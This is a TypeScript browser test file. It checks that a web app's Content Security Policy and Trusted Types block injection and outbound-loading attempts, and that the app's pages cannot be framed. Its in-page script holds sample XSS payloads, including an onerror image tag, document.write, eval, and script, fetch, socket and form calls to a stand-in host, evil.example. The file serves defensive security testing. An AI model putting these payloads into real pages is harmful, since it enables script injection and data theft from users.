// What the running page's policy forbids is forbidden by a real browser, whatever gets into the page.

import type { Page } from "playwright-core";
import { expect } from "vitest";
import { outputs } from "../flow/stack.ts";
import { browserTest, NoBrowserError } from "browser-test";

/** With a page that may violate its policy, which is a failure for `openPage`. */
const test = browserTest.extend<{ readonly page: Page }>({
  page: async ({ launched, skip }, use) => {
    if (launched instanceof NoBrowserError) return skip(launched.message);
    const context = await launched.newContext();
    await use(await context.newPage());
    await context.close();
  },
});

/** Runs in the page: tries what an attacker would, one by one, and answers which directive stopped it. */
const ATTEMPTS = `(async () => {
  /** The directive that is violated next; none, if there is no violation for a second. */
  const violated = () => new Promise((resolve) => {
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective), { once: true });
    setTimeout(() => resolve("none"), 1000);
  });
  const script = () => document.createElement("script");
  const attempts = {
    "text as markup": () => { document.body.innerHTML = "<img src=x onerror='ran = true'>"; },
    "text as markup through a parser": () => new DOMParser().parseFromString("<p>", "text/html"),
    "a document written": () => document.write("<script>ran = true</script>"),
    "an inline script": () => { const it = script(); it.textContent = "ran = true"; document.head.append(it); },
    "an inline script as nodes": () => {
      const it = script(); it.append("ran = true"); document.head.append(it);
    },
    "a script from elsewhere": () => { const it = script(); it.src = "https://evil.example/x.js"; document.head.append(it); },
    "text as code": () => eval("ran = true"),
    "text as a function": () => new Function("ran = true")(),
    "text as a timer": () => setTimeout("ran = true"),
    "a policy that makes exceptions": () => trustedTypes.createPolicy("default", { createHTML: (text) => text }),
    "a worker": () => new Worker("https://evil.example/worker.js"),
    "a call elsewhere": () => fetch("https://evil.example/"),
    "a call to another API": () => fetch("https://other.appsync-api.us-east-1.amazonaws.com/graphql"),
    "a socket elsewhere": () => new Promise((resolve, reject) => {
      const socket = new WebSocket("wss://evil.example/");
      socket.onopen = resolve; socket.onerror = () => reject(new Error("closed"));
    }),
    "an image elsewhere": () => new Promise((resolve, reject) => {
      const image = new Image(); image.onload = resolve; image.onerror = () => reject(new Error("not loaded"));
      image.src = "https://evil.example/pixel.png";
    }),
    "a frame": () => { const it = document.createElement("iframe"); it.src = "https://evil.example/"; document.body.append(it); },
    "a base for all addresses": () => {
      const it = document.createElement("base"); it.href = "https://evil.example/"; document.head.append(it);
    },
    "a form to elsewhere": () => {
      const it = document.createElement("form"); it.action = "https://evil.example/"; document.body.append(it); it.submit();
    },
  };
  const outcomes = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    const directive = violated();
    try { await attempt(); } catch {}
    outcomes[name] = await directive;
  }
  return { outcomes, ran: "ran" in globalThis, base: document.baseURI };
})()`;

const TRUSTED_TYPES = "require-trusted-types-for";

test("A30: no text becomes script, and nothing is loaded from or sent to anywhere else", async ({ page }) => {
  await page.goto(outputs.AppUrl);
  await page.getByRole("link", { name: "Sign in" }).waitFor();
  const { outcomes, ran, base } = await page.evaluate<{
    readonly outcomes: Readonly<Record<string, string>>;
    readonly ran: boolean;
    readonly base: string;
  }>(ATTEMPTS);
  expect([ran, base]).toEqual([false, `${outputs.AppUrl}/`]);
  expect(outcomes).toEqual({
    "text as markup": TRUSTED_TYPES,
    "text as markup through a parser": TRUSTED_TYPES,
    "a document written": TRUSTED_TYPES,
    "an inline script": TRUSTED_TYPES,
    "an inline script as nodes": TRUSTED_TYPES,
    "a script from elsewhere": TRUSTED_TYPES,
    "text as code": TRUSTED_TYPES,
    "text as a function": TRUSTED_TYPES,
    "text as a timer": TRUSTED_TYPES,
    "a policy that makes exceptions": "trusted-types",
    "a worker": TRUSTED_TYPES,
    "a call elsewhere": "connect-src",
    "a call to another API": "connect-src",
    "a socket elsewhere": "connect-src",
    "an image elsewhere": "img-src",
    "a frame": "frame-src",
    "a base for all addresses": "base-uri",
    "a form to elsewhere": "form-action",
  });
});

test("A30: neither the page nor an answer of ours is shown inside another page", async ({ page }) => {
  for (const path of ["/", "/auth/callback", "/auth/", "/logins"]) {
    await frame(page, `${outputs.AppUrl}${path}`);
    await expect.poll(() => page.frames().at(-1)?.url()).toBe("chrome-error://chromewebdata/");
  }
});

async function frame(page: Page, address: string): Promise<void> {
  await page.goto("about:blank");
  await page.setContent(`<iframe src="${address}"></iframe>`, { waitUntil: "commit" });
}
